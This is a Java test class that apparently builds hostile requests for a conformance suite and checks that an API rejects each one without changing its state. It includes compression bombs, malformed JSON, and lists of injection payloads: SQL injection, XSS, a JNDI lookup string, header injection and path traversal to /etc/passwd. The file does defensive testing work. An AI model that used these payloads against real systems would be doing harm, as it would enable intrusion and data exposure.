package dev.standin.conformance;

import static org.assertj.core.api.Assertions.assertThat;

import com.aayushatharva.brotli4j.Brotli4jLoader;
import com.aayushatharva.brotli4j.encoder.Encoder;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Generates the hostile requests for one write endpoint, category by category: encodings, sizes,
 * media types, malformed JSON, absurd values, wrong types, path tricks in IDs and injection strings
 * in names. The expected answers come from the API's {@link Expectations}, so the same generator
 * serves every API.
 */
final class HostileCases {

  /**
   * The answers an API gives to each category.
   *
   * @param tooLarge 413 type
   * @param badEncoding 415 type
   * @param badContentTypeStatus the status for a non-JSON or malformed Content-Type
   * @param badContentType the type for a non-JSON or malformed Content-Type
   * @param invalidInput the type for malformed or wrongly typed JSON (400)
   * @param invalidValue the type for an absurd value (too deep, too long, out of range) in the
   *     endpoint's value slot (400)
   * @param invalidName the type for a name breaking the name rule (400)
   * @param unknownId status and type for an ID naming nothing
   * @param messageField the field of the error body holding the human-readable message
   */
  record Expectations(
      String tooLarge,
      String badEncoding,
      int badContentTypeStatus,
      String badContentType,
      String invalidInput,
      String invalidValue,
      String invalidName,
      int unknownIdStatus,
      String unknownId,
      String messageField) {}

  static final int LIMIT = 9_437_184;

  private HostileCases() {}

  static List<HostileCase> casesFor(WriteEndpoint endpoint, Expectations expect) {
    List<HostileCase> cases = new ArrayList<>();
    if (endpoint.withValue() == null) {
      // Takes no body: only what is refused before any body would be read.
      unsupportedEncodings(endpoint, expect, cases);
      malformedContentTypes(endpoint, expect, cases);
      if (endpoint.idPath() != null) {
        pathTricks(endpoint, expect, cases);
      }
      return cases;
    }
    encodings(endpoint, expect, cases);
    sizes(endpoint, expect, cases);
    contentTypes(endpoint, expect, cases);
    malformedJson(endpoint, expect, cases);
    absurdValues(endpoint, expect, cases);
    if (endpoint.namedBody() != null) {
      names(endpoint, expect, cases);
    }
    if (endpoint.idPath() != null) {
      pathTricks(endpoint, expect, cases);
    }
    return cases;
  }

  // --- encodings ----------------------------------------------------------------------------

  private static final List<String> UNSUPPORTED_ENCODINGS =
      List.of(
          "bla",
          "compress",
          "x-gzip",
          "zstd",
          "exi",
          "pack200-gzip",
          "*",
          "gzip;q=1",
          "br, bla",
          "identity, zstd",
          "gzip2",
          "deflate64",
          "%67zip",
          "brotli");

  private static void encodings(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    unsupportedEncodings(e, x, cases);
    brokenEncodings(e, x, cases);
  }

  private static void unsupportedEncodings(
      WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    byte[] valid = bytes(e.validBody());
    for (String encoding : UNSUPPORTED_ENCODINGS) {
      cases.add(
          new HostileCase(
              "Content-Encoding " + encoding,
              null,
              headers("Content-Encoding", encoding),
              valid,
              415,
              x.badEncoding(),
              null));
    }
  }

  private static void brokenEncodings(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    byte[] valid = bytes(e.validBody());
    // Declared, but the bytes are not in that encoding (or are cut short).
    Map<String, byte[]> broken = new java.util.LinkedHashMap<>();
    broken.put("gzip", valid);
    broken.put("deflate", bytes("\u0001\u0002not deflate at all"));
    broken.put("br", bytes("\u00ff\u00ff\u00ff definitely not brotli"));
    byte[] gz = gzip(valid);
    broken.put("gzip, gzip", gz);
    for (Map.Entry<String, byte[]> b : broken.entrySet()) {
      cases.add(
          new HostileCase(
              "body not in its Content-Encoding " + b.getKey(),
              null,
              headers("Content-Encoding", b.getKey()),
              b.getValue(),
              400,
              x.invalidInput(),
              null));
    }
    cases.add(
        new HostileCase(
            "truncated gzip body",
            null,
            headers("Content-Encoding", "gzip"),
            java.util.Arrays.copyOf(gz, gz.length / 2),
            400,
            x.invalidInput(),
            null));
  }

  // --- sizes --------------------------------------------------------------------------------

  private static Map<String, byte[]> bombs;

  /** Bodies of a few KB that decode to more than the limit; built once, shared by endpoints. */
  static synchronized Map<String, byte[]> bombs() {
    if (bombs == null) {
      byte[] huge = bytes("{\"x\":\"" + "a".repeat(LIMIT + 1024) + "\"}");
      bombs = new java.util.LinkedHashMap<>();
      bombs.put("gzip", gzip(huge));
      bombs.put("deflate", deflate(huge));
      bombs.put("br", brotli(huge));
      bombs.put("gzip, gzip", gzip(gzip(huge)));
    }
    return bombs;
  }

  private static void sizes(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (Map.Entry<String, byte[]> bomb : bombs().entrySet()) {
      cases.add(
          new HostileCase(
              "compression bomb (" + bomb.getKey() + ", " + bomb.getValue().length + " bytes)",
              null,
              headers("Content-Encoding", bomb.getKey()),
              bomb.getValue(),
              413,
              x.tooLarge(),
              null));
    }
    // A plain body over the limit is refused on its declared length before it is read; the
    // connection then closes under the sender, which WireTest checks over a raw socket instead.
  }

  // --- media types --------------------------------------------------------------------------

  private static final List<String> CONTENT_TYPES =
      List.of(
          "text/plain",
          "text/html",
          "application/xml",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "application/octet-stream",
          "application/jsonp",
          "image/png");

  /** Content-Type values no parser accepts: refused before routing. */
  private static final List<String> MALFORMED_CONTENT_TYPES =
      List.of("///", "application/", "json");

  private static void contentTypes(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String type : CONTENT_TYPES) {
      cases.add(contentType(e, x, "Content-Type " + type, Map.of("Content-Type", type)));
    }
    malformedContentTypes(e, x, cases);
    cases.add(contentType(e, x, "no Content-Type", Map.of()));
  }

  private static void malformedContentTypes(
      WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String type : MALFORMED_CONTENT_TYPES) {
      cases.add(contentType(e, x, "Content-Type " + type, Map.of("Content-Type", type)));
    }
  }

  private static HostileCase contentType(
      WriteEndpoint e, Expectations x, String name, Map<String, String> headers) {
    return new HostileCase(
        name,
        null,
        headers,
        bytes(e.validBody()),
        x.badContentTypeStatus(),
        x.badContentType(),
        null);
  }

  // --- malformed JSON -----------------------------------------------------------------------

  private static final List<String> MALFORMED =
      List.of(
          "{",
          "}",
          "[",
          "{\"a\":}",
          "{a:1}",
          "{'a':1}",
          "{\"a\":1,}",
          "{\"a\" 1}",
          "nul",
          "{\"a\":tru}",
          "{\"a\":1}{",
          "{\"a\":1}}",
          "{\"a\":01}",
          "{\"a\":NaN}",
          "{\"a\":Infinity}",
          "{\"a\":-}",
          "{\"a\":1.}",
          "{\"a\":.5}",
          "{\"a\":\"\\x\"}",
          "{\"a\":\"\\u12\"}",
          "{\"a\":\"line\nbreak\"}",
          "{\"a\":\"\u0001\"}",
          "/*c*/{}",
          "{\"a\":1 // c\n}",
          "{\"a\":1,\"a\":2}",
          "{\"a\":{\"b\":1,\"b\":1}}",
          "{\"a\":[1,2,]}",
          "{\"a\":\"unterminated}",
          "\u0000",
          "{\"a\":1}\u0000");

  private static void malformedJson(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String body : MALFORMED) {
      cases.add(HostileCase.json("malformed " + visible(body), body, 400, x.invalidInput()));
      cases.add(
          new HostileCase(
              "gzipped malformed " + visible(body),
              null,
              headers("Content-Encoding", "gzip"),
              gzip(bytes(body)),
              400,
              x.invalidInput(),
              null));
    }
    byte[][] badUtf8 = {
      {'{', '"', 'a', '"', ':', '"', (byte) 0xff, '"', '}'},
      {'{', '"', 'a', '"', ':', '"', (byte) 0xc3, '"', '}'},
      {'{', '"', 'a', '"', ':', '"', (byte) 0xed, (byte) 0xa0, (byte) 0x80, '"', '}'},
      {'{', '"', 'a', '"', ':', '"', (byte) 0xc0, (byte) 0xaf, '"', '}'},
      {'{', '"', (byte) 0xfe, '"', ':', '1', '}'},
      {(byte) 0xfe, (byte) 0xff, '{', '}'},
    };
    for (int i = 0; i < badUtf8.length; i++) {
      cases.add(
          new HostileCase(
              "invalid UTF-8 #" + i,
              null,
              HostileCase.JSON,
              badUtf8[i],
              400,
              x.invalidInput(),
              null));
    }
    for (int depth : new int[] {101, 1_000, 100_000}) {
      String deep = "[".repeat(depth) + "]".repeat(depth);
      cases.add(
          HostileCase.json(
              "nesting " + depth + " deep", e.withValue().apply(deep), 400, x.invalidValue()));
    }
  }

  // --- absurd values and wrong types ---------------------------------------------------------

  private static final List<String> ABSURD_NUMBERS =
      List.of("1e999", "-1e999", "1e99999999", "[1,2,1e400]", "{\"deep\":{\"deeper\":-9e9999}}");

  private static void absurdValues(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String value : List.of("9".repeat(1_500), "0." + "1".repeat(1_500))) {
      cases.add(
          HostileCase.json(
              "number of " + value.length() + " characters",
              e.withValue().apply(value),
              400,
              x.invalidValue()));
    }
    for (String value : ABSURD_NUMBERS) {
      cases.add(
          HostileCase.json(
                  "absurd number " + visible(value),
                  e.withValue().apply(value),
                  400,
                  x.invalidValue())
              .naming(e.valueFieldPath()));
    }
    // An empty body reads as no body: the endpoint's own rule for a missing field answers.
    for (String empty : List.of("", " ", "\n\t", "null")) {
      cases.add(HostileCase.json("empty body " + visible(empty), empty, 400, e.emptyBodyError()));
    }
    for (String wrong : List.of("[]", "\"text\"", "1", "true", "[{}]")) {
      cases.add(HostileCase.json("body is " + wrong, wrong, 400, x.invalidInput()));
    }
    cases.add(
        HostileCase.json(
            "body is a huge array", "[" + "1,".repeat(10_000) + "1]", 400, x.invalidInput()));
  }

  // --- names and IDs ------------------------------------------------------------------------

  static final List<String> HOSTILE_NAMES =
      List.of(
          "'; DROP TABLE documents; --",
          "x' OR '1'='1",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "${jndi:ldap://example.com/a}",
          "%s%s%n",
          "name\r\nX-Injected: 1",
          "a\u0000b",
          "a".repeat(1_000),
          "",
          "ab",
          "-leading",
          "trailing-",
          "名前-名前",
          "with space",
          "semi;colon",
          "~tilde",
          "slash/name",
          "{{7*7}}",
          "$where");

  private static void names(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String name : HOSTILE_NAMES) {
      cases.add(
          HostileCase.json(
                  "name " + visible(name),
                  e.namedBody().apply(jsonString(name)),
                  400,
                  x.invalidName())
              .naming("name"));
    }
  }

  static final List<String> PATH_TRICKS =
      List.of(
          "..",
          "%2e%2e",
          "..%2F..%2Fetc%2Fpasswd",
          "%2F",
          "~",
          "~~task",
          "~..",
          "alice~",
          "nobody~task",
          "a%00b",
          "%27%20OR%201%3D1%20--",
          "%3Cscript%3E",
          "x".repeat(2_000),
          "abcdefghijklmnopq",
          "%E5%90%8D%E5%89%8D",
          "%252e%252e",
          "%C0%AE%C0%AE",
          "%20",
          "*",
          "%7B%7D");

  private static void pathTricks(WriteEndpoint e, Expectations x, List<HostileCase> cases) {
    for (String id : PATH_TRICKS) {
      // Jetty itself refuses a NUL in the path (in the API's shape); the rest reach the API.
      boolean nul = id.contains("%00");
      cases.add(
          HostileCase.json(
                  "ID " + visible(id),
                  e.validBody(),
                  nul ? 400 : x.unknownIdStatus(),
                  nul ? x.invalidInput() : x.unknownId())
              .at(e.idPath().apply(id)));
    }
  }

  // --- assertions ---------------------------------------------------------------------------

  private static final ObjectMapper MAPPER = new ObjectMapper();

  /**
   * The answer to {@code c} was its 4xx in the API's error shape, naming the field when the case
   * says so, and what the endpoint could change is as it was before.
   */
  static void assertRefused(
      WriteEndpoint endpoint, Expectations x, HostileCase c, int status, String body, String before)
      throws IOException {
    assertThat(status).as("%s: status; body %s", c.name(), body).isEqualTo(c.status());
    JsonNode error = MAPPER.readTree(body).path("error");
    assertThat(error.path(endpoint.errorField()).asText()).as(c.name()).isEqualTo(c.errorType());
    if (c.fieldPath() != null) {
      assertThat(error.path(x.messageField()).asText()).as(c.name()).contains("\"" + c.fieldPath());
    }
    assertThat(endpoint.snapshot().get())
        .as(c.name() + ": state after the request")
        .isEqualTo(before);
  }

  // --- helpers ------------------------------------------------------------------------------

  private static Map<String, String> headers(String name, String value) {
    Map<String, String> h = new HashMap<>(HostileCase.JSON);
    h.put(name, value);
    return h;
  }

  static String jsonString(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }

  private static String visible(String s) {
    String shown = s.length() > 40 ? s.substring(0, 20) + "…(" + s.length() + ")" : s;
    StringBuilder out = new StringBuilder();
    for (char c : shown.toCharArray()) {
      out.append(c < 0x20 ? String.format("\\u%04x", (int) c) : String.valueOf(c));
    }
    return out.toString();
  }

  static byte[] bytes(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static byte[] gzip(byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
      gz.write(data);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] deflate(byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (DeflaterOutputStream d = new DeflaterOutputStream(out, new Deflater(9))) {
      d.write(data);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] brotli(byte[] data) {
    Brotli4jLoader.ensureAvailability();
    try {
      return Encoder.compress(data, new Encoder.Parameters().setQuality(5));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
